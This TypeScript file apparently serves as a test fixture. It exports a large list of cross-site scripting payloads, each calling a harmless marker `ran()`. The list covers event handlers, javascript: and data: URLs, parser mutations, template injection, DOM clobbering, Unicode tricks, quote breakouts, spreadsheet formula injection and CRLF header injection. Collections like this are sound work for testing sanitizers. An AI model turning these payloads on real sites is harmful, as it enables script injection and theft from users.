/**
 * Ways to make stored text run as a script (reliability 3.5), by where they hope to end up. Each calls `ran()`, in one way of
 * writing or another. Written here from the classes that are publicly known; nothing is copied.
 */
const events = [
  '<img src=x onerror=ran()>',
  '<svg onload=ran()>',
  '<details open ontoggle=ran()>',
  '<video src=x onerror=ran()></video>',
  '<audio src=x onerror=ran()></audio>',
  '<video><source onerror=ran()></video>',
  '<body onload=ran()>',
  '<input autofocus onfocus=ran()>',
  '<select autofocus onfocus=ran()></select>',
  '<textarea autofocus onfocus=ran()>',
  '<button popovertarget=p onclick=ran()>x</button>',
  '<object data=x onerror=ran()></object>',
  '<embed src=x onload=ran()>',
  '<iframe src=x onload=ran()></iframe>',
  '<link rel=stylesheet href=x onerror=ran()>',
  '<style onload=ran()></style>',
  '<p style="animation:x 1s" onanimationstart=ran()>x',
  '<div onmouseover=ran()>x</div>',
  '<a tabindex=0 autofocus onfocus=ran()>x</a>',
  '<dialog open onclose=ran()></dialog>',
  '<marquee onstart=ran()>x</marquee>',
  '<svg><animate onbegin=ran() attributeName=x dur=1s>',
  '<svg><set onend=ran() attributeName=x dur=1s>',
  '<div popover id=p onbeforetoggle=ran()>x</div>',
]
/** Out of an attribute, an element whose content is text, a comment, a script, a CDATA section. */
const ways = ['">', "'>", '</textarea>', '</title></style>', '--!>', '</script>', ']]>', '`>']
const places = events.flatMap((event, at) => [
  event,
  `${ways[at % ways.length]}${event}`,
  `${ways[(at + 3) % ways.length]}${event.toUpperCase().replaceAll('RAN()', 'ran()')}`,
])

const addresses = [
  'javascript:ran()',
  'JaVaScRiPt:ran()',
  ' javascript:ran()',
  'java\tscript:ran()',
  'java&#115;cript:ran()',
  '&#x6A;avascript:ran()',
  'javascript&colon;ran()',
  'javascript://%0Aran()',
  'vbscript:ran()',
  'data:text/html,<script>parent.ran()</script>',
  'data:text/html;base64,PHNjcmlwdD5wYXJlbnQucmFuKCk8L3NjcmlwdD4=#ran()',
  'data:image/svg+xml,<svg onload=ran()>',
  '//x.invalid/ran()',
  'blob:ran()',
  'view-source:javascript:ran()',
]
const links = addresses.flatMap((address) => [
  `<a href="${address}">x</a>`,
  `[x](${address})`,
  ...(address.startsWith('javascript') ? [`<form action="${address}"><button>x</button></form>`] : []),
])

const rest = [
  // Scripts as they are, in pieces, and in other letters.
  '<script>ran()</script>',
  '<SCRIPT>ran()</SCRIPT>',
  '<script/x>ran()</script>',
  '<scr<script>ipt>ran()</scr</script>ipt>',
  '<script src=data:,ran()></script>',
  '<script type=module>ran()</script>',
  '&lt;script&gt;ran()&lt;/script&gt;',
  '\\u003cscript\\u003eran()\\u003c/script\\u003e',
  '<iframe srcdoc="<script>parent.ran()</script>">',
  '<iframe srcdoc="&lt;img src=x onerror=parent.ran()&gt;">',
  '<template><script>ran()</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=ran()>">',
  '<base href="javascript:ran()//">',
  '<meta http-equiv=refresh content="0;url=javascript:ran()">',
  // What a parser mends into something else (SVG, MathML, tables, comments).
  '<math><mi xlink:href="javascript:ran()">x',
  '<math><annotation-xml encoding="text/html"><img src=x onerror=ran()>',
  '<math><mtext><table><mglyph><style><img src=x onerror=ran()>',
  '<math><maction actiontype="statusline#" xlink:href="javascript:ran()">x',
  '<svg><foreignObject><img src=x onerror=ran()></foreignObject></svg>',
  '<svg><a xlink:href="javascript:ran()"><text y=9>x</text></a></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x onload=ran()>#x">',
  '<svg><style><img src=x onerror=ran()></style></svg>',
  '<svg><desc><script>ran()</script></desc></svg>',
  '<svg><p><style><!--</style><img src=x onerror=ran()>-->',
  '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=ran()>',
  '<table><caption><img src=x onerror=ran()>',
  '<!--><img src=x onerror=ran()>-->',
  '<!--[if gte IE 4]><script>ran()</script><![endif]-->',
  '<![CDATA[<img src=x onerror=ran()>]]>',
  '<?xml version="1.0"?><x:script xmlns:x="http://www.w3.org/1999/xhtml">ran()</x:script>',
  '<select><template shadowrootmode=open><img src=x onerror=ran()>',
  // Templates of frameworks. The signs of our own stand apart so that they are text here as well.
  '{{constructor.constructor("ran()")()}}',
  `$${'{ran()}'}`,
  '#{ran()}',
  '<%= ran() %>',
  '{%raw%}{{ran()}}{%endraw%}',
  `[[$${'{ran()}'}]]`,
  // Style.
  '<div style="background:url(javascript:ran())">x',
  '<style>@import "javascript:ran()";</style>',
  '<style>*{background:url("//x.invalid/ran()")}</style>',
  '</style><img src=x onerror=ran()>',
  '<link rel=import href="data:text/html,<script>ran()</script>">',
  // Names that take the place of others (DOM clobbering).
  '<form id=ran name=ran-taken><input name=attributes><input name=ran()></form>',
  '<img name=getElementById src=x onerror=ran()>',
  '<a id=ran-taken href="javascript:ran()"></a><a id=ran-taken name=url>x</a>',
  '<input id=innerHTML value="ran()" onfocus=ran() autofocus>',
  // Signs that nobody sees, and that turn the direction round.
  '\u202e<script>ran()</script>\u202c',
  '\u2066<img src=x onerror=ran()>\u2069',
  '<scr\u200bipt>ran()</scr\u200bipt>',
  '\uff1cscript\uff1eran()\uff1c/script\uff1e',
  // Out of a string of a script, of JSON, of an attribute.
  "';ran();//",
  '";ran();//',
  '`;ran();//',
  '\\";ran();//',
  '</script><script>ran()//',
  '" autofocus onfocus=ran() x="',
  "' autofocus onfocus=ran() x='",
  // Captions, tables of a spreadsheet, headers.
  '<v onclick=ran()>x</v>',
  '<c.ran()><img src=x onerror=ran()></c>',
  '=HYPERLINK("javascript:ran()","x")',
  '+cmd|ran()!A1',
  '@SUM(1+1)*ran()',
  'x%0d%0aSet-Cookie:ran()=1',
]

export const payloads: readonly string[] = [...new Set([...rest, ...links, ...places])]
